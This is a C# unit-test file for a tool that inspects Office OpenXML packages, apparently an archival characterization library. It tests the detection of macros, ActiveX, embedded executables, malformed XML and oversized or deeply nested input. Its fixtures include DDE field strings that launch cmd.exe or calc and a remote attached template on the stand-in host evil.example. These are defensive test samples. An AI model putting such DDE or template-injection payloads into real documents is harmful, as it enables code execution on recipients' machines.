using System.Text;
using Lantai.Characterization;
using Lantai.Tests.Containers;

namespace Lantai.Tests.Characterization.Packages;

public sealed class OpenXmlExaminerTests
{
    private const string Relations = """<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{0}</Relationships>""";
    private const string Office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

    [Fact]
    public void A_sound_document_is_readable_and_tells_its_properties()
    {
        var found = Looking.Into(Document(
            ("docProps/app.xml", """<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><Application>WPS 文字</Application><AppVersion>12.1</AppVersion><Pages>3</Pages><Words>120</Words></Properties>"""),
            ("docProps/core.xml", """<cp:coreProperties xmlns:cp="c" xmlns:dc="d" xmlns:t="t"><dc:title>关于归档</dc:title><dc:creator>张三</dc:creator><t:created>2024-05-01T08:00:00Z</t:created></cp:coreProperties>""")));

        Assert.Equal(FileFamily.OpenXml, found.Family);
        Assert.Equal(Readability.Readable, found.Readability);
        Assert.Empty(found.Active);
        Assert.Equal("WPS 文字", found.Technical["creating-application"]);
        Assert.Equal(3L, found.Technical["pages"]);
        Assert.Equal(120L, found.Technical["words"]);
        Assert.Equal("关于归档", found.Technical["title"]);
        Assert.Equal("张三", found.Technical["author"]);
        Assert.Equal("2024-05-01T08:00:00Z", found.Technical["created"]);
        Assert.Equal("ISO/IEC 29500 Transitional", found.Technical["conformance-claim"]);
    }

    [Theory]
    [InlineData("word/vbaProject.bin", "macro")]
    [InlineData("xl/macrosheets/sheet1.xml", "macro")]
    [InlineData("word/activeX/activeX1.bin", "activex")]
    [InlineData("word/embeddings/oleObject1.bin", "embedded-file")]
    public void What_acts_is_told_by_where_it_lies(string name, string kind) => Assert.True(Looking.Into(Document((name, "<x/>"))).Has(kind, name));

    [Fact]
    public void A_program_among_the_embedded_files_is_told_as_one()
    {
        var found = Looking.Into(HandMadeZip.Make([.. Parts(), Looking.Part("word/embeddings/a.bin", Looking.Program())]));

        Assert.True(found.Has("embedded-executable", "word/embeddings/a.bin"));
    }

    [Fact]
    public void A_template_fetched_from_outside_is_told_even_among_many_links()
    {
        var links = string.Concat(Enumerable.Range(0, 500).Select(i => $"""<Relationship Id="h{i}" Type="{Office}/hyperlink" Target="https://example.org/{i}" TargetMode="External"/>"""));
        var template = $"""<Relationship Id="t" Type="{Office}/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>""";

        var found = Looking.Into(Document(("word/_rels/document.xml.rels", Relations.Replace("{0}", links)), ("word/_rels/settings.xml.rels", Relations.Replace("{0}", template))));

        Assert.True(found.Has("external-reference", "word/_rels/settings.xml.rels: https://evil.example/t.dotm"));
        Assert.Equal(16, found.Active.Count(a => a.Kind == "hyperlink"));
    }

    [Theory]
    [InlineData("""<w:document xmlns:w="w"><w:fldSimple w:instr=" DDEAUTO c:\\windows\\cmd.exe "/></w:document>""")]
    [InlineData("""<w:document xmlns:w="w"><w:instrText> DDE cmd </w:instrText></w:document>""")]
    [InlineData("""<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>""")]
    public void A_field_that_starts_a_program_is_told(string part) => Assert.True(Looking.Into(Document(("word/x.xml", part))).Has("dde", "word/x.xml"));

    [Theory]
    [InlineData("<w:document>")]
    [InlineData("""<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>""")]
    [InlineData("")]
    public void A_part_that_is_not_well_formed_or_has_a_document_type_is_broken(string part) =>
        Assert.True(Looking.Into(Document(("word/x.xml", part))).IsBroken("word/x.xml", "not-well-formed"));

    [Fact]
    public void A_missing_main_part_is_broken()
    {
        var found = Looking.Into(HandMadeZip.Make([.. Parts().Where(p => !Encoding.UTF8.GetString(p.Name).StartsWith("word", StringComparison.Ordinal))]));

        Assert.True(found.IsBroken("word/document.xml", "missing-part"));
    }

    [Fact]
    public void A_wrong_check_value_of_any_part_is_broken()
    {
        var found = Looking.Into(HandMadeZip.Make([.. Parts(), Looking.Part("word/media/a.png", "png") with { Crc = 1 }]));

        Assert.True(found.IsBroken("word/media/a.png", "check-value"));
    }

    [Fact]
    public void Elements_nested_a_million_deep_cost_no_memory_and_break_nothing()
    {
        var found = Looking.Into(Document(("word/x.xml", string.Concat(Enumerable.Repeat("<a>", 1_000_000)))));

        Assert.Equal(Readability.NotCheckable, found.Readability);
        Assert.Contains(found.Findings, f => f.Arguments[0].Value == "too-deep");
    }

    [Theory]
    [InlineData("<a {0}/>", false)]
    [InlineData("<a><!-- > <x \" --><b c='\">'/><![CDATA[ > <y ' ]]><?p <z \" ?><d {0}/></a>", false)]
    [InlineData("<a><!-- {0} --></a>", true)]
    [InlineData("<a><![CDATA[{0}]]></a>", true)]
    [InlineData("<a>{0}</a>", true)]
    public void A_tag_with_a_million_attributes_fills_no_memory_and_attributestext_is_read(string part, bool isRead)
    {
        var attributes = string.Concat(Enumerable.Range(0, 200_000).Select(i => $" a{i}=''"));

        var found = Looking.Into(Document(("word/x.xml", part.Replace("{0}", attributes))));

        Assert.Equal(isRead ? Readability.Readable : Readability.NotCheckable, found.Readability);
        Assert.Equal(!isRead, found.Findings.Any(f => f.Arguments[0].Value == "tag-too-long"));
    }

    [Fact]
    public void Sheets_and_slides_are_counted()
    {
        var book = Looking.Into(Document(("xl/workbook.xml", """<workbook xmlns="http://purl.oclc.org/ooxml/spreadsheetml/main"><sheets><sheet name="a"/><sheet name="b"/></sheets></workbook>""")));
        var slides = Looking.Into(Document(("ppt/presentation.xml", """<p:presentation xmlns:p="p"><p:sldIdLst><p:sldId/><p:sldId/><p:sldId/></p:sldIdLst></p:presentation>""")));

        Assert.Equal(2L, book.Technical["sheets"]);
        Assert.Equal(3L, slides.Technical["slides"]);
    }

    private static byte[] Document(params (string Name, string Content)[] more) => HandMadeZip.Make([.. Parts(), .. more.Select(m => Looking.Part(m.Name, m.Content))]);

    private static IEnumerable<HandMadeEntry> Parts() =>
    [
        Looking.Part("[Content_Types].xml", """<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>"""),
        Looking.Part("_rels/.rels", Relations.Replace("{0}", $"""<Relationship Id="r" Type="{Office}/officeDocument" Target="word/document.xml"/>""")),
        Looking.Part("word/document.xml", """<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>"""),
    ];
}
